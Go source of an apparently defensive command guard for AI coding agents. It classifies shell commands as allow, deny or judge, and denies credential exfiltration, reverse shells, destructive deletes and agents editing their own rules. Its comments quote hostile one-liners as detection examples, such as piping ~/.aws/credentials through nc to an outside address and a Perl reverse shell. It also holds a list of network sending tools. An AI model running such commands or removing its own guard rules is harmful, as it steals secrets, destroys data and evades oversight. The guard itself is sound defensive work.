package effects

import (
	"fmt"
	"path"
	"regexp"
	"slices"
	"strings"

	"github.com/hookguard/hookguard/internal/hook"
)

// Verdict is the effects' answer for one simple command.
type Verdict struct {
	// Decision is allow (understood and harmless), deny (a clearly dangerous
	// effect) or judge (everything else).
	Decision hook.Decision `json:"decision"`
	// Reasons name the effects that decided: the danger for deny, what was not
	// understood or not harmless for judge.
	Reasons []string `json:"reasons,omitempty"`
}

// Decide answers from a record: deny what is understood to be dangerous,
// allow only what is understood and harmless, judge the rest.
func Decide(r *Record) Verdict {
	r.finish()
	if d := r.dangers(); len(d) > 0 {
		return Verdict{Decision: hook.Deny, Reasons: d}
	}
	var why []string
	if !r.Known {
		why = append(why, "unknown program "+r.Program)
	}
	why = append(why, r.Unknown...)
	why = append(why, r.concerns()...)
	if len(why) > 0 {
		return Verdict{Decision: hook.Judge, Reasons: why}
	}
	return Verdict{Decision: hook.Allow}
}

// finish gives sends without a destination the command's destination.
func (r *Record) finish() {
	var dest *NetEffect
	for i := range r.Network {
		if r.Network[i].Dest != "" && r.Network[i].Sends == "" {
			dest = &r.Network[i]
			break
		}
	}
	if dest == nil {
		return
	}
	out := r.Network[:0]
	sent := false
	for _, n := range r.Network {
		if n.Sends != "" && n.Dest == "" {
			n.Dest, n.Local, n.Metadata = dest.Dest, dest.Local, dest.Metadata
			sent = true
		}
		out = append(out, n)
	}
	r.Network = out
	if sent {
		// The destination is where the data goes, not a separate fetch.
		for i := range r.Network {
			if &r.Network[i] != dest && r.Network[i].Dest == dest.Dest && r.Network[i].Sends == "" {
				r.Network = append(r.Network[:i], r.Network[i+1:]...)
				break
			}
		}
	}
}

func has(cs []string, want ...string) bool {
	for _, c := range cs {
		for _, w := range want {
			if c == w {
				return true
			}
		}
	}
	return false
}

// dangers lists the clearly dangerous effects.
func (r *Record) dangers() []string {
	if r.DryRun {
		return nil
	}
	var out []string
	add := func(format string, args ...any) { out = append(out, fmt.Sprintf(format, args...)) }
	for _, f := range r.Files {
		c := f.Classes
		switch f.Op {
		case OpRead:
			if f.Path == "{}" && has(c, ClassSecret, ClassEnvFile) && has(c, "home", "root") {
				// find ~ -name '.env*' | xargs cat: every credential file a
				// search of the whole home folder (or disk) turns up.
				add("reads the credential files a search of the whole home folder or disk finds")
			}
		case OpDelete:
			if f.Dynamic && f.Recursive {
				if v, bad := emptyIsCritical(f.Path); bad {
					add("deletes %s, which is the filesystem root or the home directory when $%s is unset or empty", f.Path, strings.TrimPrefix(v, "$"))
					continue
				}
			}
			switch {
			case has(c, "root", "home"):
				add("deletes %s (the filesystem root or a home directory)", f.Path)
			case has(c, "workspace") && (f.Recursive || r.deletes):
				add("deletes the whole workspace (%s)", f.Path)
			case rootGlob(f.Path):
				// rm -rf /[a-u]*, /???/: a pattern over the filesystem root's
				// own folders (etc, usr, bin, home …).
				add("deletes the filesystem root's folders that match %s", f.Path)
			case has(c, ClassEveryFile):
				// find . -type f -exec shred -u {} +: every file below the
				// workspace root, the repository's history included.
				add("deletes every file of the workspace (%s)", f.Path)
			case coreSystem(f.Path) && !has(c, "temp"):
				add("deletes the system path %s", f.Path)
			case gitLockFile(f):
			case has(c, ClassVCS):
				add("deletes version-control data (%s)", f.Path)
			case has(c, ClassGuard):
				add("deletes the guard's configuration (%s)", f.Path)
			case !f.moved && !f.Dynamic && movesIntoTemp(r) && has(c, "home_sub", "workspace") && !has(c, "temp", ClassCache):
				// mv ~/projects/* /tmp/, mv ~/dev/app /tmp/: into the folder
				// the system empties, out of the user's sight.
				add("moves %s into the temporary folder, which the system empties", f.Path)
			case has(c, ClassAgent) && !f.moved:
				// rm .cursor/rules/no-secrets.mdc, mv …/security.mdc /tmp/: the
				// agent's own rules taken away by the agent.
				add("removes the agent's own rules (%s)", f.Path)
			case has(c, ClassPersistence) || has(c, ClassSecret) && !has(c, "inside", "temp"):
				add("deletes credentials or start-up files (%s)", f.Path)
			case f.Recursive && has(c, "home_sub") && !has(c, "temp", ClassCache) && !f.moved:
				add("recursively deletes %s in the home directory, outside every workspace", f.Path)
			}
		case OpWrite, OpMode:
			if f.Op == OpWrite && f.replaces && f.contentKnown && !f.Dynamic && has(c, ClassPersistence) && shellStartupRe.MatchString(f.Path) {
				// echo 'export PATH=…' | tee ~/.bashrc, > ~/.zshrc: the
				// user's whole start-up file replaced by one line.
				add("replaces %s with what the command writes (everything the file held is lost)", f.Path)
				continue
			}
			if r.deletes && f.Op == OpWrite && !r.DryRun {
				switch {
				case has(c, "root", "home", "workspace", ClassRoot, ClassAncestor):
					add("deletes everything under %s that the source lacks (the workspace, a home directory or the root)", f.Path)
					continue
				case has(c, "home_sub") && !has(c, "temp", ClassCache), coreSystem(f.Path):
					add("deletes everything under %s that the source lacks", f.Path)
					continue
				}
			}
			verb := "writes"
			if f.Op == OpMode {
				verb = "changes the mode of"
			}
			switch {
			case has(c, ClassGuard) && f.Op == OpWrite && EditorConfigFile(f.Path):
				// Known content decides; unknown content is a concern.
				if f.contentKnown {
					if danger, _ := editorConfigVerdict(f.Path, f.content); danger != "" {
						add("writes %s, %s", f.Path, danger)
					}
				}
			case has(c, ClassGuard):
				add("%s the guard's or the agent's configuration (%s)", verb, f.Path)
			case has(c, ClassAgent) && f.Op == OpWrite && f.scriptVerdict == hook.Deny:
				add("writes the agent's own instructions (%s) with text the rules deny (it gets the agent past the guard)", f.Path)
			case f.Op == OpWrite && f.laterDanger != "":
				add("writes %s, which runs later by itself, with %s", f.Path, f.laterDanger)
			case f.Op == OpMode && f.mode != "" && NarrowingMode(f.mode, false) && has(c, ClassPersistence, ClassSecret) &&
				!coreSystem(f.Path) && !has(c, "root", "home"):
				// chmod 600 ~/.ssh/authorized_keys grants no one anything; chmod
				// 644 on a key lets others read it: concerns() asks.
			case has(c, ClassHooks) && f.scriptVerdict == hook.Deny:
				add("writes %s, a git hook script, with code the rules deny", f.Path)
			case has(c, ClassPersistence) && f.Op == OpWrite && f.contentKnown && harmlessConfigContent(f.Path, f.content):
				// echo 'ignore-scripts=true' >> ~/.npmrc: a setting that runs nothing.
			case has(c, ClassPersistence) && f.Op == OpWrite && f.contentKnown && pathLinesOnly(f.content, r.roots):
				// export PATH="$HOME/.cargo/bin:$PATH" >> ~/.zshrc: concerns() asks.
			case has(c, ClassPersistence) && f.Op == OpWrite && f.contentKnown && has(c, "inside") && strings.HasSuffix(f.Path, ".pth") &&
				harmlessPth(f.content):
				// import coverage; coverage.process_startup() in the project's
				// venv: a module of the venv started with Python, nothing else.
			case has(c, ClassPersistence) && f.Op == OpWrite && f.laterHarmless && !coreSystem(f.Path):
				// echo 'export JAVA_HOME=…' >> ~/.profile: persistence of code
				// the rules allow; concerns() asks.
			case has(c, ClassPersistence) && f.Op == OpWrite && f.folder && !coreSystem(f.Path):
				// mkdir -p ~/.config/systemd/user: an empty folder runs
				// nothing; what is then written into it is decided on its own.
			case has(c, ClassPersistence) && f.Op == OpWrite && localHostsEntries(f):
				// echo '127.0.0.1 api.shop.local' | sudo tee -a /etc/hosts: a
				// local name for this machine; concerns() asks.
			case has(c, ClassPersistence) && f.Op == OpWrite && r.installsProjectStartup(f):
				// sudo cp deploy/shop-api.service /etc/systemd/system/, cp
				// dotfiles/.zshrc ~/.zshrc: the project's own service or shell
				// set-up, installed; concerns() asks.
			case has(c, ClassPersistence):
				add("%s %s, which runs later by itself (persistence)", verb, f.Path)
			case has(c, ClassVCS) && (f.Op == OpWrite || f.Op == OpMode) && f.scriptVerdict == hook.Allow:
				// printf '#!/bin/sh\nnpm test\n' > .git/hooks/pre-push: a hook
				// whose content the rules allow, as harmless as running it.
			case has(c, ClassVCS) && f.Op == OpWrite && f.scriptVerdict == hook.Deny:
				add("writes %s, a git hook, with code the rules deny", f.Path)
			case has(c, ClassVCS) && f.Op == OpWrite && r.onlyWorkspaceSources():
				// cp scripts/commit-msg .git/hooks/: the project's own hook,
				// the same trust as running its scripts; concerns() asks.
			case has(c, ClassVCS) && f.Op == OpWrite:
				add("%s version-control internals (%s)", verb, f.Path)
			case f.Op == OpWrite && r.installsProjectProgram(f.Path) != "":
				// sudo install -m 755 target/release/shopctl /usr/local/bin/:
				// the project's program, by a name no known program has;
				// concerns() asks.
			case coreSystem(f.Path) && !has(c, "temp") && !harmlessDevice(f.Path):
				add("%s the system path %s", verb, f.Path)
			case has(c, "root", "home") && (f.Recursive || f.Op == OpWrite):
				add("%s %s recursively (the filesystem root or a home directory)", verb, f.Path)
			case has(c, ClassSecret) && f.Op == OpWrite && !has(c, "inside", "temp") && !f.folder:
				// mkdir -p ~/.ssh creates a folder (or finds it there):
				// it overwrites nothing.
				add("overwrites the credential file %s", f.Path)
			}
		}
	}
	if r.obfuscated != "" {
		add("runs code it decodes from a literal that cannot be read (hidden code: %s)", r.obfuscated)
	}
	if r.deniedRun != "" {
		add("runs a shell command the rules deny (%s)", short(r.deniedRun))
	}
	if r.hostCarries != "" {
		add("looks up a host name built from a command's output (%s): the lookup sends it out", short(r.hostCarries))
	}
	if r.insertedDanger != "" {
		add("inserts into the files it edits %s", r.insertedDanger)
	}
	if r.stdinSecret != "" && (sendsOff(r) || stdinSenders[r.Program]) {
		add("sends the credential file %s over the network (%s reads it from stdin)", r.stdinSecret, r.Program)
	}
	for _, cd := range r.Code {
		installed := cd.Kind == "file" && installSubcommand(r.Subcommand) && !strings.ContainsAny(cd.What, "/\\") &&
			!strings.HasSuffix(cd.What, ".whl") && !strings.HasSuffix(cd.What, ".tgz") && !strings.HasSuffix(cd.What, ".gz")
		if (cd.Kind == "package" || installed) && cd.What != "" {
			if p := TyposquatOf(cd.What); p != "" {
				add("runs the package %s, one letter away from the well-known %s (a typosquat's name)", cd.What, p)
			}
		}
	}
	for _, cd := range r.Code {
		if slices.Contains(cd.Found, foundRemoteExec) {
			// exec(urlopen('http://…').read()): code fetched and run unread.
			add("runs %s code that downloads code and runs it", cd.Lang)
			break
		}
		if slices.Contains(cd.Found, foundEnvDump) {
			add("runs %s code that %s", cd.Lang, foundEnvDump)
			break
		}
		if slices.Contains(cd.Found, foundStartupHook) {
			add("runs %s code that %s", cd.Lang, foundStartupHook)
			break
		}
		if slices.Contains(cd.Found, foundReverseShell) {
			// IO::Socket->new(…); open(STDIN,"<&",$c); exec("/bin/bash -i").
			add("runs %s code that %s (a reverse shell)", cd.Lang, foundReverseShell)
			break
		}
	}
	for _, cd := range r.Code {
		if slices.Contains(cd.Found, foundDelete) && slices.Contains(cd.Found, foundSecretPath) {
			// for p in glob('~/.ssh/id_*'): os.remove(p): code that deletes
			// files and names credential files.
			add("runs %s code that deletes files and names credential files", cd.Lang)
			break
		}
	}
	if r.argFile != "" {
		for _, n := range r.Network {
			if !n.Local {
				add("sends the lines of the credential file %s over the network (they are its arguments)", r.argFile)
				break
			}
		}
	}
	if r.codeSendsSecret != "" {
		add("runs code that reads the credential file %s and uses the network (it can send the file)", r.codeSendsSecret)
	}
	if r.scheduledDanger != "" {
		add("%s", r.scheduledDanger)
	}
	if r.reverseShell {
		add("opens a shell for a remote host to drive (a reverse shell)")
	}
	for _, cd := range r.Code {
		if (cd.Kind == "inline" || cd.Kind == "stdin") && slices.Contains(cd.Found, foundSecretPath) && slices.Contains(cd.Found, foundNetwork) {
			// open(expanduser('~/.aws/credentials')) … requests.post(…): a
			// credential file read by code that also talks to the network.
			add("runs %s code that reads a credential file and uses the network (it can send the file)", cd.Lang)
		}
	}
	if r.productionData != "" {
		add("%s", r.productionData)
	}
	if r.lookalike != "" {
		add("%s", r.lookalike)
	}
	if r.movesOntoDevice != "" {
		add("moves files onto the device %s: they are gone, and run as root the device node is replaced", r.movesOntoDevice)
	}
	for _, n := range r.Network {
		switch {
		case EncodedHostLabel(hostOf(n.Dest)) != "" && !n.Local:
			add("sends data encoded in the host name %s (a DNS lookup carries it out)", hostOf(n.Dest))
		case n.Metadata:
			add("reads a cloud metadata endpoint (%s), where instance credentials live", n.Dest)
		case n.Local:
			// This machine or a private network: the judge decides.
		case strings.HasPrefix(n.Sends, "secret file"), n.Sends == "environment" || strings.HasPrefix(n.Sends, "the secret variable"),
			strings.HasPrefix(n.Sends, "secret output"):
			add("sends %s to %s", strings.TrimPrefix(n.Sends, "secret output: "), n.Dest)
		case n.Sends == descriptorSent:
			add("opens a raw connection to %s that later commands write to (a channel out of the machine)", n.Dest)
		}
	}
	return out
}

// installSubcommand reports a package manager's subcommand that adds
// packages by name (npm install, pip install, uv add, poetry add).
func installSubcommand(sub string) bool {
	for _, w := range strings.Fields(sub) {
		switch w {
		case "install", "i", "add", "in", "ins", "inst":
			return true
		}
	}
	return false
}

// shellStartupRe matches the shell start-up files of a home.
var shellStartupRe = regexp.MustCompile(`^(~|/home/[^/]+|/Users/[^/]+|/root)/\.(bashrc|zshrc|profile|bash_profile|bash_login|zprofile|zshenv|zlogin|config/fish/config\.fish)$`)

// movesIntoTemp reports a move (mv) whose destination is in a temporary
// folder.
func movesIntoTemp(r *Record) bool {
	if r.Program != "mv" && r.Program != "gmv" {
		return false
	}
	for _, f := range r.Files {
		if f.Op == OpWrite && has(f.Classes, "temp") {
			return true
		}
	}
	return false
}

// generatedFile reports a file named as generated code (src/generated.ts,
// api.gen.go, schema_pb2.py): made again by its generator.
func generatedFile(p string) bool {
	low := strings.ToLower(p)
	return strings.Contains(low, "generated") || strings.Contains(low, ".gen.") || strings.Contains(low, "_gen.") ||
		strings.Contains(low, "/gen/") || strings.Contains(low, "_pb2") || strings.Contains(low, ".pb.")
}

// emptiesInPlace reports a program whose delete of a file's content leaves
// the file there, empty (a redirection alone, :, cat /dev/null, cp
// /dev/null, truncate), unlike rm.
func emptiesInPlace(program string) bool {
	switch program {
	case "", ":", "true", "cat", "cp", "gcp", "truncate", "echo", "printf", "tee", "dd", "sed", "gsed":
		return true
	}
	return false
}

// sourceFileExt reports a file name with the extension of source code, a
// manifest, a lock file or configuration.
func sourceFileExt(p string) bool {
	ext := strings.ToLower(path.Ext(p))
	switch ext {
	case ".py", ".go", ".rs", ".ts", ".tsx", ".js", ".jsx", ".mjs", ".java", ".kt", ".rb", ".php", ".c", ".h", ".cpp", ".cs",
		".swift", ".scala", ".ex", ".exs", ".vue", ".svelte", ".json", ".yml", ".yaml", ".toml", ".lock", ".xml", ".gradle",
		".sql", ".prisma", ".tf", ".mod", ".sum", ".cfg", ".ini":
		return true
	}
	return false
}

// credentialParentRe matches the folders of a home that hold most tools'
// credential stores (~/.config, ~/.local/share, ~/Library/Application
// Support): reading all of them reads those too.
var credentialParentRe = regexp.MustCompile(`^(~|/home/[^/]+|/Users/[^/]+|/root)/(\.config|\.local|\.local/share|Library|Library/Application Support)/?$`)

// concerns lists the effects outside the harmless envelope that are not
// clear dangers: a person or the judge should look.
func (r *Record) concerns() []string {
	var out []string
	add := func(format string, args ...any) { out = append(out, fmt.Sprintf(format, args...)) }
	for _, f := range r.Files {
		c := f.Classes
		switch f.Op {
		case OpRead:
			if has(c, ClassSecret) && !f.Meta {
				add("reads the credential file %s", f.Path)
			} else if f.Recursive && !f.Meta && (has(c, "home", "root") || credentialParentRe.MatchString(f.Path)) {
				// grep -r … ~, rg … ~: every file below, the credential files
				// too (a program that reads a folder reads what is in it).
				add("reads every file under %s, credential files included", f.Path)
			}
		case OpWrite, OpMode, OpDelete:
			if f.Op == OpWrite && f.replaces && f.contentKnown && len(strings.TrimSpace(f.content)) <= 2 && has(c, "source") &&
				!has(c, "build", "temp") && sourceFileExt(f.Path) {
				// : > src/train.py, cp /dev/null src/main.rs, echo '{}' >
				// package.json: a project file emptied.
				add("empties the project file %s (what it held is gone unless version control has it)", f.Path)
			} else if f.Op == OpDelete && !f.Recursive && !f.Dynamic && has(c, "source") && !has(c, "build", "temp") &&
				sourceFileExt(f.Path) && emptiesInPlace(r.Program) && !generatedFile(f.Path) {
				// cat /dev/null > models.py, truncate -s 0 src/app.ts, cp
				// /dev/null Cargo.lock: the file stays, its content is gone.
				add("empties the project file %s (what it held is gone unless version control has it)", f.Path)
			}
			switch {
			case r.DryRun:
			case f.narrowing() && has(c, ClassPersistence, ClassSecret) && !f.Dynamic && !coreSystem(f.Path) &&
				!has(c, ClassGuard, "root", "home", "dynamic"):
			case f.Op == OpMode && has(c, ClassSecret):
				add("changes permissions of the credential file %s (a mode or owner that may let others read it)", f.Path)
			case f.Dynamic || has(c, "dynamic"):
				add("%s a path known only at run time (%s)", f.Op, f.Path)
			case has(c, ClassGuard) && f.Op == OpWrite && EditorConfigFile(f.Path):
				if !f.contentKnown {
					add("writes %s, editor configuration that can run commands, with content not known here", f.Path)
				} else if _, concern := editorConfigVerdict(f.Path, f.content); concern != "" {
					add("writes %s: %s", f.Path, concern)
				}
			case f.Op == OpWrite && f.replaces && has(c, ClassEnvFile) && has(c, "inside") && !f.Dynamic && !testEnvFile(f.Path):
				// cp .env.example .env, echo X=1 > .env: a .env already there
				// holds the developer's own settings and keys, in no version
				// control; replacing it loses them.
				add("overwrites %s, which holds local settings and keys that are in no version control", f.Path)
			case f.Op == OpDelete && sharedTempContents(f.Path):
				// rm -rf /tmp/*: every program's and user's temporary files
				// and sockets, not only this project's.
				add("deletes everything in %s, the temporary folder every program shares (their files and sockets too)", path.Dir(f.Path))
			case f.Op == OpDelete && cacheRoot(f.Path):
				// rm -rf ~/.cache: every program's cache at once (logins some
				// tools keep there, downloads that take hours to redo).
				add("deletes %s, the cache folder of every program in the home folder", f.Path)
			case has(c, "temp", ClassCache) || harmlessDevice(f.Path):
			case gitLockFile(f):
			case f.Op == OpWrite && has(c, "inside", "source", ClassRoot) && ProjectNpmrcFile(f.Path) && !f.contentKnown:
				add("writes %s, the project's package-manager configuration, with content not known here", f.Path)
			case f.Op == OpWrite && has(c, "inside", "source", ClassRoot) && ProjectNpmrcFile(f.Path) && npmrcRunsPrograms(f.content):
				add("writes %s with a setting that names a program npm or yarn runs", f.Path)
			case has(c, ClassVCSOther), has(c, ClassSecret) && !has(c, "inside"):
				add("%s %s", f.Op, f.Path)
			case has(c, ClassVCS) && (f.Op == OpWrite || f.Op == OpMode) && f.scriptVerdict == hook.Allow:
			case has(c, ClassVCS):
				add("installs %s as a version-control hook or setting (it runs on later git commands)", f.Path)
			case has(c, ClassPersistence) && f.Op == OpWrite && f.contentKnown && pathLinesOnly(f.content, r.roots):
				add("adds a PATH entry for a tool's own folder to %s, a start-up file", f.Path)
			case has(c, ClassPersistence) && f.Op == OpWrite && f.laterHarmless &&
				!(has(c, "inside") && strings.HasSuffix(f.Path, ".pth") && harmlessPth(f.content)):
				add("writes %s, which runs later by itself, with code the rules allow", f.Path)
			case has(c, ClassPersistence) && f.Op == OpWrite && localHostsEntries(f):
				add("adds names for this machine to %s (a system file)", f.Path)
			case f.Op == OpWrite && r.installsProjectProgram(f.Path) != "":
				add("installs the project's program %s for every user of this machine", r.installsProjectProgram(f.Path))
			case has(c, ClassPersistence) && f.Op == OpWrite && r.installsProjectStartup(f):
				add("installs %s from the project's files; it runs by itself from now on", f.Path)
			case has(c, ClassSecret) && f.Op == OpDelete:
				add("deletes %s, a secrets file that is usually not in version control", f.Path)
			case has(c, "build"):
			case has(c, ClassData) && f.Op == OpDelete:
				add("deletes or empties %s, a local database that is usually in no version control", f.Path)
			case has(c, ClassAgent) && f.Op == OpWrite && (f.scriptVerdict == hook.Allow || f.folder):
				// Conventions written to AGENTS.md or .cursor/rules whose
				// text the rules find nothing in (no planted steps, no
				// bypass of the guard).
			case has(c, ClassAgent):
				add("%s the agent's own instructions or settings (%s)", f.Op, f.Path)
			case has(c, ClassHooks) && (f.Op == OpWrite || f.Op == OpMode) && f.scriptVerdict == hook.Allow:
				// A hook script whose content the rules allow: as harmless as running it.
			case has(c, ClassHooks) && f.Op != OpDelete:
				add("%s %s, a git hook script that runs on later commits", f.Op, f.Path)
			case has(c, ClassHooks):
				add("deletes %s, a git hook script (the checks it runs on commit or push stop)", f.Path)
			case has(c, ClassCI) && f.Op != OpDelete:
				add("%s %s, a CI pipeline that runs with the repository's secrets", f.Op, f.Path)
			case has(c, "source", "inside"):
				switch {
				case f.Op == OpWrite && !has(c, "build") && r.recursive && r.copiesFromOutside():
					// cp -r ../other-project/src/* src/: another project's
					// files over this one's sources.
					add("copies files from outside the workspace over its sources (%s)", f.Path)
				case f.Op == OpDelete && !f.moved && !has(c, "build") && r.movesOutOfWorkspace():
					// mv src /tmp/src-backup: the sources leave the project for
					// a folder that is wiped or outside it.
					add("moves %s out of the workspace", f.Path)
				case f.Op != OpDelete || has(c, "build") || f.moved:
				case f.Recursive:
					add("recursively deletes source files (%s)", f.Path)
				case strings.ContainsAny(path.Base(f.Path), "*?["):
					add("deletes every source file matching %s", f.Path)
				case has(c, ClassMatches):
					add("deletes every source file find matches by name")
				case f.Path == "{}":
					// find src -type f -exec rm {} +, git ls-files | xargs rm:
					// every file a listing names in a source folder.
					add("deletes every file a listing names in a source folder")
				}
			case has(c, ClassRoot) && f.Op != OpDelete:
				// Writing into the workspace (ruff format ., chmod +x *).
				if f.Op == OpMode && f.Recursive {
					add("changes modes recursively across the workspace (%s)", f.Path)
				} else if f.Op == OpWrite && r.copiesFromOutside() {
					// cp -rf ../old-copy/. .: another tree copied over the project.
					add("copies files from outside the workspace over its root (%s)", f.Path)
				}
			case f.Op == OpWrite && r.pinsCodeHostKeys(f):
				// ssh-keyscan github.com >> ~/.ssh/known_hosts: a code host's
				// published keys, the step before the first git clone.
			case f.Op == OpWrite && r.backupCopy(f):
				// cp ~/.zshrc ~/.zshrc.bak.20260101: a copy kept beside the file.
			case f.Op == OpWrite && r.installsOwnTool(f):
				// install -m 755 target/release/rcli ~/.local/bin/rcli: the
				// project's own program put on the user's PATH by its name.
			case f.Op == OpMode && !f.Recursive && strings.HasSuffix(f.Path, ".pub") && !has(c, ClassPersistence, ClassGuard):
				// chmod 644 ~/.ssh/*.pub: public keys are public.
			default:
				add("%s %s outside the workspace", f.Op, f.Path)
			}
		}
	}
	for _, cd := range r.Code {
		switch cd.Kind {
		case "project":
		case "inline", "stdin":
			if len(cd.Found) > 0 {
				add("runs %s code that %s", cd.Lang, strings.Join(cd.Found, ", "))
			}
		default:
			add("runs %s code %s", cd.Kind, cd.What)
		}
	}
	for _, n := range r.Network {
		switch {
		case n.Sends == "" || n.Local:
		case n.Sends == "workspace":
		case n.Sends == "literal":
			add("sends data to %s", n.Dest)
		default:
			add("sends %s to %s", n.Sends, n.Dest)
		}
	}
	if len(r.Env) > 0 {
		add("sets %s, which makes programs load or run other code", strings.Join(r.Env, ", "))
	}
	if r.Privileged {
		add("runs with elevated privileges")
	}
	if r.Mutates != "" && !r.DryRun {
		add("changes %s", r.Mutates)
	}
	if r.DryRun {
		// git clean -fdn, rsync -n --delete: what the options would do is
		// only listed.
		return out
	}
	out = append(out, r.Concerns...)
	return out
}

// gitLockFile reports the deletion of a lock file git left inside a
// repository's .git folder (index.lock, HEAD.lock, refs/heads/x.lock): what
// git itself says to do after a crashed command.
func gitLockFile(f FileEffect) bool {
	p := f.Path
	// .git/index.lock, or find .git -name '*.lock' -delete (.git/*.lock).
	dir, base := path.Split(p)
	return f.Op == OpDelete && !f.Recursive && !f.Dynamic && strings.HasSuffix(p, ".lock") && !strings.ContainsAny(dir, "*?[") &&
		!strings.ContainsAny(strings.TrimSuffix(strings.TrimPrefix(base, "*"), ".lock"), "*?[") &&
		(strings.HasPrefix(p, ".git/") || strings.Contains(p, "/.git/"))
}

// coreSystemDirs hold the operating system itself: writing or deleting there
// breaks the machine. Other system folders (/opt, /srv, /var, /mnt) are
// judged, not denied.
var coreSystemDirs = []string{"/etc", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/boot", "/dev",
	"/proc", "/sys", "/System", "/private/etc", "/Library", "/var/lib", "/var/log", "/var/spool", "/var/db"}

func coreSystem(p string) bool {
	p = path.Clean(p)
	for _, d := range coreSystemDirs {
		if p == d || strings.HasPrefix(p, d+"/") {
			return true
		}
	}
	return false
}

// harmlessDevice reports the device files that writing to changes nothing.
func harmlessDevice(p string) bool {
	switch p {
	case "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/fd/1", "/dev/fd/2":
		return true
	}
	return false
}

// environmentDumpers print the whole environment (and with it every token).
var environmentDumpers = map[string]bool{"env": true, "printenv": true, "set": true, "export": true, "declare": true, "compgen": true}

// stdinSenders send what they read on stdin to another host.
var stdinSenders = map[string]bool{"nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true, "ssh": true,
	"openssl": true, "curl": true, "wget": true, "http": true, "https": true, "xh": true, "mail": true, "sendmail": true,
	"mutt": true, "aws": true, "gsutil": true, "rclone": true, "scp": true, "sftp": true}

// PipelineDanger looks at the stages of one pipeline in order and reports
// secrets or the environment flowing into a stage that sends data off the
// machine (env | curl -d @- …, cat ~/.aws/credentials | base64 | nc …).
func PipelineDanger(stages []*Record) string {
	source := ""
	for _, r := range stages {
		if r == nil {
			continue
		}
		if source != "" && sendsOff(r) {
			return "sends " + source + " over the network (" + r.Program + ")"
		}
		if archivesWorkspace(r) && source == "" {
			// tar czf - . | nc 203.0.113.5 9001: the whole project, its
			// .env files too, to a raw socket or an upload (not ssh, a deploy).
			source = "an archive of the whole workspace"
			for _, later := range stages {
				if later != nil && later != r && rawSender(later) {
					return "sends " + source + " over the network (" + later.Program + ")"
				}
			}
			source = ""
		}
		if (environmentDumpers[r.Program] || r.printsEnv) && len(r.Files) == 0 {
			source = "the environment"
		}
		for _, f := range r.Files {
			switch {
			case f.Op == OpRead && has(f.Classes, ClassSecret):
				source = "the credential file " + f.Path
			case f.Op == OpRead && has(f.Classes, "home", "home_sub") && !has(f.Classes, "temp", ClassCache) && !f.Meta &&
				(f.Recursive || archivers[r.Program]):
				// tar cz ~/Documents | curl -T - …: the user's own files.
				source = "the user's files in " + f.Path
			}
		}
	}
	return ""
}

// archivers read whole folders into one stream.
var archivers = map[string]bool{"tar": true, "gtar": true, "bsdtar": true, "zip": true, "7z": true, "7za": true, "cpio": true, "pax": true}

func sendsOff(r *Record) bool {
	for _, n := range r.Network {
		if !n.Local && (n.Sends != "" || stdinSenders[r.Program]) {
			return true
		}
	}
	return stdinSenders[r.Program] && len(r.Network) == 0 && r.Program != "curl" && r.Program != "wget"
}

// onlyWorkspaceSources reports a copy whose every source is a file inside the
// workspace (and that reads nothing else): what it writes is the project's own.
func (r *Record) onlyWorkspaceSources() bool {
	n := 0
	for _, f := range r.Files {
		if f.Op != OpRead {
			continue
		}
		if !has(f.Classes, "inside", "source") || has(f.Classes, ClassVCS, ClassVCSOther) || f.Dynamic {
			return false
		}
		n++
	}
	return n > 0 && len(r.Code) == 0 && len(r.Network) == 0
}

// serviceDefinitionRe matches a new service or timer of the service
// manager (a systemd unit, a launchd agent or daemon), not a drop-in that
// changes an existing one.
var serviceDefinitionRe = regexp.MustCompile(`^(/etc/systemd/system|(~|/home/[^/]+|/Users/[^/]+|/root)/\.config/systemd/user)/[A-Za-z0-9][\w@.-]*\.(service|timer|socket|path)$|^((~|/Users/[^/]+|/home/[^/]+|/root)/Library/LaunchAgents|/Library/LaunchDaemons|/Library/LaunchAgents)/[A-Za-z0-9][\w.-]*\.plist$`)

// systemServiceNameRe matches names of the system's own services (or ones
// made to look like them).
var systemServiceNameRe = regexp.MustCompile(`(?i)^(systemd|ssh|sshd|cron|crond|dbus|kworker|kthread|getty|udev|network|rsyslog|journal|polkit|com\.apple\.|apple)`)

// installsProjectStartup reports a write of a service definition or a
// shell start-up file whose content comes only from the workspace's own
// files: copied from them (cp, ln -s, install, tee < file), or lines that
// source a workspace script.
func (r *Record) installsProjectStartup(f FileEffect) bool {
	if f.Dynamic {
		return false
	}
	switch r.Program {
	case "cp", "gcp", "ln", "gln", "install", "ginstall", "tee", "cat", "dd", "rsync", "envsubst", "echo", "printf":
	default:
		return false // tar -czf ~/.bashrc src: not a copy of the project's file
	}
	if r.installsServices(f.Path) && r.onlyWorkspaceSources() {
		return true
	}
	if !shellStartupRe.MatchString(f.Path) {
		return false
	}
	if !f.contentKnown {
		// cp dotfiles/.zshrc ~/.zshrc, ln -sf "$PWD/zsh/zshrc" ~/.zshrc: a
		// dotfiles install. A script of another name (cp scripts/init.sh
		// ~/.bashrc) is not what a start-up file is made from.
		for _, src := range r.Files {
			if src.Op == OpRead && !dotfileSourceRe.MatchString(src.Path) {
				return false
			}
		}
		return r.onlyWorkspaceSources()
	}
	all, n := EveryLine(f.content, "#", func(line string) bool {
		verb, arg, ok := strings.Cut(line, " ")
		arg = strings.Trim(strings.TrimSpace(arg), "\"'")
		if !ok || verb != "source" && verb != "." || strings.ContainsAny(arg, "$`;|&<>() ") || path.Clean(arg) != arg {
			return false
		}
		for _, root := range r.roots {
			if root = strings.TrimSuffix(root, "/"); root != "" && strings.HasPrefix(arg, root+"/") {
				return true
			}
		}
		return false
	})
	return all && n > 0
}

// dotfileSourceRe matches a file that holds a shell's start-up settings by
// its name or folder.
var dotfileSourceRe = regexp.MustCompile(`(?i)(^|/)dotfiles?/|(^|/)\.?(bash|zsh|shell)?(rc|_?profile|env|login)$|(^|/)\.?(bashrc|zshrc|zshenv|zprofile|bash_profile)(\.\w+)?$`)

// localHostsLineRe matches a hosts line that maps local development names
// to this machine.
var localHostsLineRe = regexp.MustCompile(`^(127\.0\.0\.1|::1)(\s+([a-z0-9-]+\.)*[a-z0-9-]+\.(local|test|localhost|internal|lan|dev\.local|example))+$|^(127\.0\.0\.1|::1)(\s+[a-z0-9-]+)+$`)

// localHostsEntries reports an append to /etc/hosts of known lines that only
// name this machine by local development names (shop.local, api.test).
func localHostsEntries(f FileEffect) bool {
	if f.Path != "/etc/hosts" || f.replaces || !f.contentKnown {
		return false
	}
